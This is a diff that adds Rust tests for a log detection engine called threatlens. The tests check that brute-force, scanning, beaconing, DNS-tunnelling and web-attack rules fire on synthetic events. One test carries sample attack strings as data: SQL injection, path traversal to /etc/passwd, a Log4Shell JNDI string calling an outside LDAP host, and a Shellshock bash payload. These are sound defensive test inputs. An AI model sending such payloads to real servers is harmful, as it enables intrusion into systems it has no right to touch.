@@ -1,0 +1,785 @@
+//! Detection engine tests: bundled Sigma rules, correlations and analytics over events built by
+//! hand, user rule folders, and (when the corpus is present) real logs.
+
+use std::path::Path;
+
+use jiff::Timestamp;
+use threatlens::engine::detect::{Detection, Detector, MAX_EVIDENCE, RuleSet, Severity};
+use threatlens::engine::event::{Action, Event, EventFormat, Location, Outcome};
+
+const BRUTE_FORCE: &str = "Brute-Force Login From One Source";
+const SPRAYING: &str = "Password Spraying From One Source";
+const SUCCESS_AFTER: &str = "Successful Login From A Brute-Forcing Source";
+const SUCCESS_ON_HOST: &str = "Successful Login On A Host Under Brute-Force Attack";
+const PORT_SCAN: &str = "Port Scan From One Source";
+const HOST_SWEEP: &str = "Host Sweep From One Source";
+const BEACONING: &str = "Beaconing Between Two Hosts";
+
+fn at(line: u64) -> Location {
+    Location { file: 0, line }
+}
+
+/// A fixed base time plus `secs`.
+fn time_at(secs: i64) -> Timestamp {
+    Timestamp::from_second(1_700_000_000 + secs).unwrap_or(Timestamp::UNIX_EPOCH)
+}
+
+fn ssh_login(line: u64, secs: i64, src: &str, user: &str, outcome: Outcome) -> Event {
+    let mut event = Event::new(at(line), EventFormat::Sshd);
+    event.time = Some(time_at(secs));
+    event.action = Some(Action::Login);
+    event.outcome = Some(outcome);
+    event.src_ip = src.parse().ok();
+    event.src_port = Some(40_000);
+    event.user = Some(user.to_owned());
+    event.process = Some("sshd".to_owned());
+    event.reporter = Some("web1".to_owned());
+    event.auth_method = Some("password".to_owned());
+    event
+}
+
+fn run(rules: &RuleSet, events: &[Event]) -> Vec<Detection> {
+    let mut detector = Detector::new(rules);
+    for event in events {
+        detector.observe(event);
+    }
+    detector.finish()
+}
+
+fn titled<'a>(detections: &'a [Detection], title: &str) -> Vec<&'a Detection> {
+    detections.iter().filter(|d| d.title == title).collect()
+}
+
+fn find<'a>(detections: &[&'a Detection], src: &str) -> &'a Detection {
+    match detections.iter().find(|d| d.src_ip.as_deref() == Some(src)) {
+        Some(detection) => detection,
+        None => panic!("no detection for {src}: {detections:#?}"),
+    }
+}
+
+fn detail<'a>(detection: &'a Detection, name: &str) -> Option<&'a str> {
+    detection
+        .details
+        .iter()
+        .find(|(key, _)| key == name)
+        .map(|(_, value)| value.as_str())
+}
+
+fn bundled() -> RuleSet {
+    match RuleSet::bundled() {
+        Ok(rules) => rules,
+        Err(error) => panic!("bundled rules do not load: {error}"),
+    }
+}
+
+#[test]
+fn bundled_rules_load() {
+    let rules = bundled();
+    // 29 Sigma documents (detection and correlation) and 4 analytics in assets/rules.
+    assert_eq!(rules.len(), 33);
+    assert_eq!(rules.analytics().len(), 4);
+    assert!(rules.rules().iter().all(|rule| !rule.formats.is_empty()));
+}
+
+#[test]
+fn brute_force_fires_once_per_source_above_threshold_only() {
+    let mut events = Vec::new();
+    for n in 0..25 {
+        events.push(ssh_login(
+            n + 1,
+            n as i64 * 10,
+            "198.51.100.7",
+            "root",
+            Outcome::Failure,
+        ));
+    }
+    for n in 0..9 {
+        events.push(ssh_login(
+            100 + n,
+            n as i64 * 10,
+            "198.51.100.8",
+            "root",
+            Outcome::Failure,
+        ));
+    }
+
+    let detections = run(&bundled(), &events);
+
+    let brute = titled(&detections, BRUTE_FORCE);
+    assert_eq!(brute.len(), 1, "{detections:#?}");
+    let finding = brute[0];
+    assert_eq!(finding.src_ip.as_deref(), Some("198.51.100.7"));
+    assert_eq!(finding.user.as_deref(), Some("root"));
+    assert_eq!(finding.count, 25);
+    assert_eq!(finding.evidence_total, 25);
+    assert_eq!(finding.evidence.len(), 25);
+    assert_eq!(finding.evidence.first(), Some(&at(1)));
+    assert_eq!(finding.severity, Severity::High);
+    assert_eq!(finding.techniques, vec!["T1110", "T1110.001"]);
+    assert_eq!(finding.tactics, vec!["credential-access"]);
+    assert_eq!(finding.first_seen, Some(time_at(0)));
+    assert_eq!(finding.last_seen, Some(time_at(240)));
+    assert_eq!(detail(finding, "correlation"), Some("event_count"));
+    assert_eq!(detail(finding, "timespan_secs"), Some("600"));
+
+    // The failures themselves are only counted by correlations, never reported alone.
+    assert!(titled(&detections, "Failed Login").is_empty());
+}
+
+#[test]
+fn failures_spread_beyond_the_window_do_not_fire() {
+    // 30 failures, one every 2 minutes: at most 5 fall in any 10-minute window.
+    let events: Vec<Event> = (0..30)
+        .map(|n| {
+            ssh_login(
+                n + 1,
+                n as i64 * 120,
+                "198.51.100.9",
+                "root",
+                Outcome::Failure,
+            )
+        })
+        .collect();
+
+    let detections = run(&bundled(), &events);
+
+    assert!(
+        titled(&detections, BRUTE_FORCE).is_empty(),
+        "{detections:#?}"
+    );
+}
+
+#[test]
+fn password_spraying_counts_distinct_users() {
+    let users = ["alice", "bob", "carol", "dave", "erin", "frank"];
+    let events: Vec<Event> = users
+        .iter()
+        .enumerate()
+        .map(|(n, user)| {
+            ssh_login(
+                n as u64 + 1,
+                n as i64 * 300,
+                "203.0.113.5",
+                user,
+                Outcome::Failure,
+            )
+        })
+        .collect();
+
+    let detections = run(&bundled(), &events);
+
+    let spraying = titled(&detections, SPRAYING);
+    assert_eq!(spraying.len(), 1, "{detections:#?}");
+    assert_eq!(spraying[0].count, 6);
+    assert_eq!(
+        spraying[0].user, None,
+        "users differ, so no single user is shown"
+    );
+    assert_eq!(detail(spraying[0], "distinct_user"), Some("6"));
+    assert_eq!(spraying[0].techniques, vec!["T1110", "T1110.003"]);
+    // Six failures in 25 minutes are not a brute force by the 10-in-10-minutes rule.
+    assert!(titled(&detections, BRUTE_FORCE).is_empty());
+}
+
+#[test]
+fn successful_login_after_failures_from_the_same_source() {
+    let mut events: Vec<Event> = (0..12)
+        .map(|n| ssh_login(n + 1, n as i64 * 5, "192.0.2.44", "admin", Outcome::Failure))
+        .collect();
+    events.push(ssh_login(13, 70, "192.0.2.44", "admin", Outcome::Success));
+    events.push(ssh_login(14, 80, "192.0.2.99", "carol", Outcome::Success));
+
+    let detections = run(&bundled(), &events);
+
+    let success = titled(&detections, SUCCESS_AFTER);
+    assert_eq!(success.len(), 1, "{detections:#?}");
+    assert_eq!(success[0].src_ip.as_deref(), Some("192.0.2.44"));
+    assert_eq!(success[0].user.as_deref(), Some("admin"));
+    assert_eq!(success[0].evidence, vec![at(13)]);
+    assert_eq!(success[0].severity, Severity::Critical);
+    assert!(success[0].techniques.contains(&"T1078".to_owned()));
+}
+
+#[test]
+fn success_without_earlier_failures_is_not_reported() {
+    let mut events = vec![ssh_login(1, 0, "192.0.2.50", "carol", Outcome::Success)];
+    events.extend(
+        (0..12).map(|n| ssh_login(n + 2, 10 + n as i64, "192.0.2.50", "x", Outcome::Failure)),
+    );
+
+    let detections = run(&bundled(), &events);
+
+    assert_eq!(titled(&detections, BRUTE_FORCE).len(), 1);
+    assert!(
+        titled(&detections, SUCCESS_AFTER).is_empty(),
+        "{detections:#?}"
+    );
+}
+
+#[test]
+fn success_on_a_host_under_attack_from_another_source() {
+    let mut events: Vec<Event> = (0..20)
+        .map(|n| {
+            ssh_login(
+                n + 1,
+                n as i64 * 10,
+                "198.51.100.20",
+                "root",
+                Outcome::Failure,
+            )
+        })
+        .collect();
+    events.push(ssh_login(21, 300, "203.0.113.77", "adam", Outcome::Success));
+
+    let detections = run(&bundled(), &events);
+
+    let on_host = titled(&detections, SUCCESS_ON_HOST);
+    assert_eq!(on_host.len(), 1, "{detections:#?}");
+    assert_eq!(on_host[0].src_ip.as_deref(), Some("203.0.113.77"));
+    assert_eq!(on_host[0].user.as_deref(), Some("adam"));
+    assert!(titled(&detections, SUCCESS_AFTER).is_empty());
+}
+
+fn firewall_deny(line: u64, secs: i64, src: &str, dst: &str, port: u16) -> Event {
+    let mut event = Event::new(at(line), EventFormat::Netfilter);
+    event.time = Some(time_at(secs));
+    event.action = Some(Action::Deny);
+    event.src_ip = src.parse().ok();
+    event.dst_ip = dst.parse().ok();
+    event.dst_port = Some(port);
+    event.proto = Some("tcp".to_owned());
+    event
+}
+
+#[test]
+fn vertical_port_scan_needs_twenty_ports() {
+    let mut events: Vec<Event> = (0..25)
+        .map(|n| {
+            firewall_deny(
+                n + 1,
+                n as i64 * 60,
+                "192.0.2.10",
+                "10.0.0.1",
+                1000 + n as u16,
+            )
+        })
+        .collect();
+    events.extend((0..10).map(|n| {
+        firewall_deny(
+            100 + n,
+            n as i64 * 60,
+            "192.0.2.11",
+            "10.0.0.1",
+            2000 + n as u16,
+        )
+    }));
+
+    let detections = run(&bundled(), &events);
+
+    let scans = titled(&detections, PORT_SCAN);
+    assert_eq!(scans.len(), 1, "{detections:#?}");
+    assert_eq!(scans[0].src_ip.as_deref(), Some("192.0.2.10"));
+    assert_eq!(scans[0].dst_ip.as_deref(), Some("10.0.0.1"));
+    assert_eq!(scans[0].dst_port, None, "ports differ");
+    assert_eq!(scans[0].count, 25);
+    assert_eq!(detail(scans[0], "distinct_dst_port"), Some("25"));
+    assert!(scans[0].techniques.contains(&"T1595.001".to_owned()));
+    assert!(titled(&detections, HOST_SWEEP).is_empty());
+}
+
+#[test]
+fn horizontal_sweep_from_zeek_rejected_connections() {
+    let events: Vec<Event> = (0..12)
+        .map(|n| {
+            let mut event = Event::new(at(n + 1), EventFormat::ZeekConn);
+            event.time = Some(time_at(n as i64 * 30));
+            event.action = Some(Action::Connection);
+            event.src_ip = "198.51.100.66".parse().ok();
+            event.dst_ip = format!("10.1.0.{}", n + 1).parse().ok();
+            event.dst_port = Some(445);
+            event.push_extra("conn_state", if n % 2 == 0 { "S0" } else { "REJ" });
+            event
+        })
+        .collect();
+
+    let detections = run(&bundled(), &events);
+
+    let sweeps = titled(&detections, HOST_SWEEP);
+    assert_eq!(sweeps.len(), 1, "{detections:#?}");
+    assert_eq!(sweeps[0].count, 12);
+    assert_eq!(sweeps[0].dst_port, Some(445));
+    assert_eq!(sweeps[0].dst_ip, None);
+    assert_eq!(detail(sweeps[0], "distinct_dst_ip"), Some("12"));
+}
+
+#[test]
+fn remote_service_attempts_need_three_denials() {
+    let events = vec![
+        firewall_deny(1, 0, "192.0.2.30", "10.0.0.1", 22),
+        firewall_deny(2, 60, "192.0.2.30", "10.0.0.1", 3389),
+        firewall_deny(3, 120, "192.0.2.30", "10.0.0.1", 23),
+        firewall_deny(4, 0, "192.0.2.31", "10.0.0.1", 22),
+        firewall_deny(5, 60, "192.0.2.31", "10.0.0.1", 80),
+    ];
+
+    let detections = run(&bundled(), &events);
+
+    let attempts = titled(
+        &detections,
+        "Unauthorized Access Attempts On Remote Services",
+    );
+    assert_eq!(attempts.len(), 1, "{detections:#?}");
+    assert_eq!(attempts[0].src_ip.as_deref(), Some("192.0.2.30"));
+    assert_eq!(attempts[0].count, 3);
+    assert_eq!(attempts[0].techniques, vec!["T1133", "T1021"]);
+}
+
+fn web_request(line: u64, src: &str, url: &str, user_agent: &str) -> Event {
+    let mut event = Event::new(at(line), EventFormat::WebAccess);
+    event.time = Some(time_at(line as i64));
+    event.action = Some(Action::Request);
+    event.src_ip = src.parse().ok();
+    event.http_method = Some("GET".to_owned());
+    event.url = Some(url.to_owned());
+    event.http_status = Some(404);
+    event.user_agent = Some(user_agent.to_owned());
+    event
+}
+
+#[test]
+fn web_attack_lines_match_their_rules() {
+    let browser = "Mozilla/5.0 (X11; Linux x86_64)";
+    let cases = [
+        (
+            "/item.php?id=1%27+UNION+SELECT+user,password+FROM+users--",
+            browser,
+            "SQL Injection Attempt In Web Request",
+        ),
+        (
+            "/static/../../../../etc/passwd",
+            browser,
+            "Path Traversal Attempt In Web Request",
+        ),
+        (
+            "/",
+            "${jndi:ldap://203.0.113.1:1389/Exploit}",
+            "Log4Shell Probe In Web Request",
+        ),
+        (
+            "/cgi-bin/status",
+            "() { :; }; /bin/bash -c 'id'",
+            "Shellshock Probe In Web Request",
+        ),
+        ("/uploads/shell.php?cmd=id", browser, "Web Shell Probe"),
+        (
+            "/boaform/admin/formLogin?username=admin&psd=admin",
+            browser,
+            "Command Injection Attempt In Web Request",
+        ),
+        (
+            "/",
+            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)",
+            "Vulnerability Scanner User Agent",
+        ),
+        ("/.env", browser, "Probe For Sensitive Web Paths"),
+    ];
+    let events: Vec<Event> = cases
+        .iter()
+        .enumerate()
+        .map(|(n, (url, agent, _))| web_request(n as u64 + 1, "203.0.113.200", url, agent))
+        .collect();
+    let mut normal = web_request(99, "203.0.113.201", "/index.html?page=2", browser);
+    normal.http_status = Some(200);
+
+    let mut all = events.clone();
+    all.push(normal);
+    let detections = run(&bundled(), &all);
+
+    for (n, (_, _, title)) in cases.iter().enumerate() {
+        let found = titled(&detections, title);
+        assert!(
+            found.iter().any(|d| d.evidence.contains(&at(n as u64 + 1))),
+            "{title} did not fire on case {n}: {detections:#?}"
+        );
+    }
+    assert!(
+        detections
+            .iter()
+            .all(|d| d.src_ip.as_deref() != Some("203.0.113.201"))
+    );
+    let sqli = titled(&detections, "SQL Injection Attempt In Web Request");
+    assert_eq!(sqli[0].techniques, vec!["T1190"]);
+    assert_eq!(sqli[0].tactics, vec!["initial-access"]);
+}
+
+#[test]
+fn evidence_is_capped_but_counted_in_full() {
+    let events: Vec<Event> = (0..10_000)
+        .map(|n| {
+            web_request(
+                n + 1,
+                "203.0.113.210",
+                "/a.php?q=1%27+union+select+1--",
+                "x",
+            )
+        })
+        .collect();
+
+    let detections = run(&bundled(), &events);
+
+    let sqli = titled(&detections, "SQL Injection Attempt In Web Request");
+    assert_eq!(sqli.len(), 1);
+    assert_eq!(sqli[0].count, 10_000);
+    assert_eq!(sqli[0].evidence_total, 10_000);
+    assert_eq!(sqli[0].evidence.len(), MAX_EVIDENCE);
+    assert_eq!(sqli[0].evidence.last(), Some(&at(MAX_EVIDENCE as u64)));
+}
+
+fn conn(line: u64, time_ms: i64, src: &str, dst: &str, port: u16, bytes_out: u64) -> Event {
+    let mut event = Event::new(at(line), EventFormat::ZeekConn);
+    event.time = Timestamp::from_millisecond(1_700_000_000_000 + time_ms).ok();
+    event.action = Some(Action::Connection);
+    event.src_ip = src.parse().ok();
+    event.dst_ip = dst.parse().ok();
+    event.dst_port = Some(port);
+    event.proto = Some("tcp".to_owned());
+    event.bytes_out = Some(bytes_out);
+    event.bytes_in = Some(200);
+    event.push_extra("conn_state", "SF");
+    event
+}
+
+/// A deterministic value in 0..1 (a linear congruential generator), so tests need no crate.
+fn next_unit(state: &mut u64) -> f64 {
+    *state = state
+        .wrapping_mul(6_364_136_223_846_793_005)
+        .wrapping_add(1);
+    (*state >> 11) as f64 / (1u64 << 53) as f64
+}
+
+#[test]
+fn regular_beacon_is_reported_and_random_traffic_is_not() {
+    let mut state = 42;
+    let mut events = Vec::new();
+    let mut regular_ms = 0;
+    let mut random_ms = 0;
+    for n in 0..150u64 {
+        regular_ms += 300_000 + ((next_unit(&mut state) - 0.5) * 20_000.0) as i64;
+        events.push(conn(
+            2 * n + 1,
+            regular_ms,
+            "10.0.0.5",
+            "203.0.113.10",
+            443,
+            620,
+        ));
+        random_ms += (-300_000.0 * (1.0 - next_unit(&mut state)).ln()) as i64;
+        let size = (next_unit(&mut state) * 90_000.0) as u64;
+        events.push(conn(
+            2 * n + 2,
+            random_ms,
+            "10.0.0.6",
+            "203.0.113.11",
+            443,
+            size,
+        ));
+    }
+    events.sort_by_key(|event| event.time);
+
+    let detections = run(&bundled(), &events);
+
+    let beacons = titled(&detections, BEACONING);
+    assert_eq!(beacons.len(), 1, "{detections:#?}");
+    let beacon = beacons[0];
+    assert_eq!(beacon.src_ip.as_deref(), Some("10.0.0.5"));
+    assert_eq!(beacon.dst_ip.as_deref(), Some("203.0.113.10"));
+    assert_eq!(beacon.dst_port, Some(443));
+    assert_eq!(beacon.count, 150);
+    let score: f64 = detail(beacon, "score")
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(0.0);
+    assert!(score > 0.9, "score {score}");
+    let interval: f64 = detail(beacon, "median_interval_secs")
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(0.0);
+    assert!((290.0..=310.0).contains(&interval), "interval {interval}");
+}
+
+#[test]
+fn large_outbound_transfer_and_volume_outlier_are_reported() {
+    let mut events = Vec::new();
+    for n in 0..30u64 {
+        let src = format!("10.0.2.{}", n + 1);
+        events.push(conn(
+            n + 1,
+            n as i64 * 1000,
+            &src,
+            "198.51.100.1",
+            443,
+            10_000,
+        ));
+    }
+    for n in 0..3u64 {
+        events.push(conn(
+            100 + n,
+            50_000,
+            "10.0.3.1",
+            "203.0.113.99",
+            22,
+            50_000_000,
+        ));
+    }
+    events.push(conn(
+        200,
+        60_000,
+        "10.0.3.2",
+        "203.0.113.98",
+        443,
+        5_000_000,
+    ));
+    // An internet client uploading to us is not outbound.
+    events.push(conn(
+        300,
+        70_000,
+        "198.51.100.5",
+        "10.0.0.1",
+        443,
+        400_000_000,
+    ));
+
+    let detections = run(&bundled(), &events);
+
+    let transfers = titled(&detections, "Large Or Unusual Outbound Transfer");
+    assert_eq!(transfers.len(), 2, "{transfers:#?}");
+    let big = find(&transfers, "10.0.3.1");
+    assert_eq!(detail(big, "bytes_out"), Some("150000000"));
+    assert_eq!(detail(big, "reason"), Some("volume above threshold"));
+    assert_eq!(big.count, 3);
+    assert_eq!(big.dst_port, Some(22));
+    let outlier = find(&transfers, "10.0.3.2");
+    assert_eq!(
+        detail(outlier, "reason"),
+        Some("outlier against typical pair volume")
+    );
+    assert_eq!(outlier.techniques, vec!["T1041", "T1048", "T1030"]);
+}
+
+fn dns_query(line: u64, name: &str, query_type: &str) -> Event {
+    let mut event = Event::new(at(line), EventFormat::ZeekDns);
+    event.time = Some(time_at(line as i64));
+    event.action = Some(Action::Query);
+    event.src_ip = "10.0.0.8".parse().ok();
+    event.dst_ip = "10.0.0.53".parse().ok();
+    event.dst_port = Some(53);
+    event.domain = Some(name.to_owned());
+    event.push_extra("qtype_name", query_type);
+    event
+}
+
+#[test]
+fn dns_tunnel_is_reported_and_ordinary_lookups_are_not() {
+    let mut state = 9;
+    let hex = b"0123456789abcdef";
+    let mut events = Vec::new();
+    for n in 0..80u64 {
+        let label: String = (0..32)
+            .map(|_| {
+                let index = (next_unit(&mut state) * 16.0) as usize;
+                char::from(hex.get(index).copied().unwrap_or(b'0'))
+            })
+            .collect();
+        events.push(dns_query(
+            n + 1,
+            &format!("{label}.t.exfil-example.net"),
+            "TXT",
+        ));
+        events.push(dns_query(1000 + n, "www.example.org", "A"));
+        events.push(dns_query(
+            2000 + n,
+            &format!("host{n}.corp.example.com"),
+            "A",
+        ));
+    }
+
+    let detections = run(&bundled(), &events);
+
+    let tunnels = titled(&detections, "DNS Tunnelling");
+    assert_eq!(tunnels.len(), 1, "{tunnels:#?}");
+    assert_eq!(tunnels[0].domain.as_deref(), Some("exfil-example.net"));
+    assert_eq!(tunnels[0].count, 80);
+    assert_eq!(detail(tunnels[0], "txt_queries"), Some("80"));
+    assert_eq!(tunnels[0].techniques, vec!["T1071.004", "T1048.003"]);
+}
+
+#[test]
+fn long_connection_is_reported() {
+    let mut long = conn(1, 0, "10.0.0.9", "203.0.113.50", 22, 1_000);
+    long.duration_secs = Some(7_200.5);
+    let mut short = conn(2, 0, "10.0.0.9", "203.0.113.51", 22, 1_000);
+    short.duration_secs = Some(30.0);
+
+    let detections = run(&bundled(), &[long, short]);
+
+    let found = titled(&detections, "Long Connection");
+    assert_eq!(found.len(), 1);
+    assert_eq!(found[0].dst_ip.as_deref(), Some("203.0.113.50"));
+    assert_eq!(detail(found[0], "longest_secs"), Some("7200"));
+}
+
+#[test]
+fn suricata_alert_passes_its_own_techniques_through() {
+    let alert = |line: u64, sid: u64, techniques: &[&str]| {
+        let mut event = Event::new(at(line), EventFormat::SuricataAlert);
+        event.time = Some(time_at(line as i64));
+        event.action = Some(Action::Alert);
+        event.src_ip = "198.51.100.3".parse().ok();
+        event.dst_ip = "10.0.0.2".parse().ok();
+        event.dst_port = Some(22);
+        event.signature = Some("ET SCAN Potential SSH Scan".to_owned());
+        event.signature_id = Some(sid);
+        event.sensor_severity = Some(1);
+        event.techniques = techniques.iter().map(|t| (*t).to_owned()).collect();
+        event
+    };
+    let events = vec![
+        alert(1, 2001219, &["T1046"]),
+        alert(2, 2001219, &["T1046"]),
+        alert(3, 2003068, &["T1110"]),
+    ];
+
+    let detections = run(&bundled(), &events);
+
+    let alerts = titled(&detections, "Suricata Alert (Severity 1)");
+    assert_eq!(alerts.len(), 2, "one per signature: {alerts:#?}");
+    let scan = alerts.iter().find(|d| d.count == 2).copied();
+    assert_eq!(
+        scan.map(|d| d.techniques.clone()),
+        Some(vec!["T1046".to_owned()])
+    );
+    assert!(alerts.iter().all(|d| d.severity == Severity::High));
+}
+
+fn rule_data(name: &str) -> std::path::PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/data/rules")
+        .join(name)
+}
+
+#[test]
+fn user_rule_folder_adds_rules_and_analytics() {
+    let rules = match RuleSet::with_dir(&rule_data("user")) {
+        Ok(rules) => rules,
+        Err(error) => panic!("user rules do not load: {error}"),
+    };
+    assert_eq!(rules.len(), bundled().len() + 2);
+
+    let mut hit = web_request(1, "192.0.2.200", "/hidden-admin?x=1", "curl/8.0");
+    hit.http_status = Some(200);
+    let miss = web_request(2, "192.0.2.200", "/hidden-admin", "curl/8.0");
+    let mut events = vec![hit, miss];
+    events.extend((0..6).map(|n| {
+        conn(
+            10 + n,
+            n as i64 * 60_000,
+            "10.0.0.7",
+            "203.0.113.7",
+            8080,
+            90,
+        )
+    }));
+
+    let detections = run(&rules, &events);
+
+    let admin = titled(&detections, "Request For The Hidden Admin Page");
+    assert_eq!(admin.len(), 1, "{detections:#?}");
+    assert_eq!(admin[0].evidence, vec![at(1)]);
+    assert_eq!(admin[0].severity, Severity::Critical);
+    assert_eq!(
+        detections.first().map(|d| d.severity),
+        Some(Severity::Critical)
+    );
+    let quiet = titled(&detections, "Beaconing With A Low Bar");
+    assert_eq!(quiet.len(), 1, "{detections:#?}");
+    assert_eq!(quiet[0].count, 6);
+}
+
+#[test]
+fn malformed_rule_file_is_an_error_naming_the_file() {
+    let error = match RuleSet::with_dir(&rule_data("bad")) {
+        Ok(_) => panic!("a broken rule loaded"),
+        Err(error) => error.to_string(),
+    };
+    assert!(error.contains("broken_condition.yml"), "{error}");
+}
+
+#[test]
+fn rule_file_that_is_not_yaml_is_an_error_naming_the_file() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("not_yaml.yml");
+    std::fs::write(&path, "title: [unclosed\n  - nope: :\n").unwrap();
+
+    let error = RuleSet::from_dir_only(dir.path())
+        .err()
+        .map(|e| e.to_string());
+
+    let error = error.unwrap_or_default();
+    assert!(error.contains("not_yaml.yml"), "{error}");
+}
+
+#[test]
+fn correlation_naming_an_unknown_rule_is_an_error() {
+    let text = "title: Lonely\nid: c-1\ncorrelation:\n  type: event_count\n  rules: [nowhere]\n  \
+                group-by: [src_ip]\n  timespan: 5m\n  condition:\n    gte: 2\n";
+    let error = RuleSet::from_yaml("lonely.yml", text)
+        .err()
+        .map(|e| e.to_string());
+    let error = error.unwrap_or_default();
+    assert!(
+        error.contains("lonely.yml") && error.contains("nowhere"),
+        "{error}"
+    );
+}
+
+#[test]
+fn detector_with_no_rules_reports_nothing() {
+    let mut detector = Detector::new(&RuleSet::default());
+    detector.observe(&ssh_login(1, 0, "192.0.2.1", "root", Outcome::Failure));
+    assert!(detector.finish().is_empty());
+}
+
+/// Throughput probe, not a test of speed: run with
+/// `cargo test --release --test detect throughput -- --ignored --nocapture`.
+#[test]
+#[ignore = "prints a measurement; run by hand in release mode"]
+fn throughput() {
+    let mut events = Vec::new();
+    for n in 0..250_000u64 {
+        let src = format!("198.51.{}.{}", n % 200, n % 250);
+        events.push(ssh_login(n, n as i64 / 10, &src, "root", Outcome::Failure));
+        let port = (n % 1024) as u16;
+        events.push(firewall_deny(n, n as i64 / 10, &src, "10.0.0.1", port));
+        let agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)";
+        events.push(web_request(n, &src, "/index.php?page=2&sort=asc", agent));
+        let time_ms = n as i64 * 100;
+        events.push(conn(
+            n,
+            time_ms,
+            "10.0.0.5",
+            &format!("203.0.113.{}", n % 250),
+            443,
+            900,
+        ));
+    }
+
+    let rules = bundled();
+    let started = std::time::Instant::now();
+    let detections = run(&rules, &events);
+    let elapsed = started.elapsed().as_secs_f64();
+
+    let rate = events.len() as f64 / elapsed;
+    println!(
+        "{} events in {elapsed:.2} s: {rate:.0} events/s, {} detections",
+        events.len(),
+        detections.len()
+    );
+}
